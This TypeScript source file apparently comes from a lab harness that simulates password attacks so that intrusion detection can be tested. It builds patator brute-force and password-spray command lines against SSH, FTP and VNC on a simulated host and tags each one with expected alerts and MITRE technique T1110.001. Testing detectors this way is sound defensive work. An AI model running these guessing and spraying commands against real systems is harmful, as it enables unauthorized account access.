/** Passwords guessed by patator, one at many services, and one for many users. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Site } from '../site.ts';
import { type Attack, serversOf } from './attack.ts';

function words(site: Site, name: string): string {
  const path = join(site.network.directory, `patator-${name}`);
  writeFileSync(path, Array.from({ length: 60 }, (_, i) => `${name}${i}\n`).join(''));
  return path;
}

/** `options` of the module `name`, with FILE0 where the guess stands. */
function patator(name: string, module: string, options: (target: string) => string, list = 'guess'): Attack {
  return {
    class: `brute.${name}`,
    alerts: ['brute-force.password', 'brute-force.spray'],
    technique: 'T1110.001',
    tool: 'patator',
    needs: ['patator', ...(serversOf[name.slice(name.lastIndexOf('.') + 1)] ?? [])],
    speeds: { fast: [4, 16], medium: [1, 3], slow: [0.3, 0.6] },
    plan(site, rate) {
      const target = site.address('files');
      const threads = rate < 2 ? 1 : 2;
      const command = `patator ${module} ${options(target)} 0=${words(site, list)} -t ${threads} --rate-limit=${(threads / rate).toFixed(2)} --max-retries=0`;
      return {
        jobs: [{ host: 'evil', argv: ['bash', '-c', `exec timeout 40 ${command} > /dev/null 2>&1`] }],
        attackers: [site.address('evil')],
        victims: [target],
        seconds: 42,
      };
    },
  };
}

export const patatorGuesses: readonly Attack[] = [
  patator('ssh', 'ssh_login', (host) => `host=${host} user=root password=FILE0`),
  patator('spray.ssh', 'ssh_login', (host) => `host=${host} user=FILE0 password=Summer2026`, 'user'),
  patator('ftp', 'ftp_login', (host) => `host=${host} user=root password=FILE0`),
  patator('spray.ftp', 'ftp_login', (host) => `host=${host} user=FILE0 password=Summer2026`, 'user'),
  patator('vnc', 'vnc_login', (host) => `host=${host} port=5901 password=FILE0`),
];
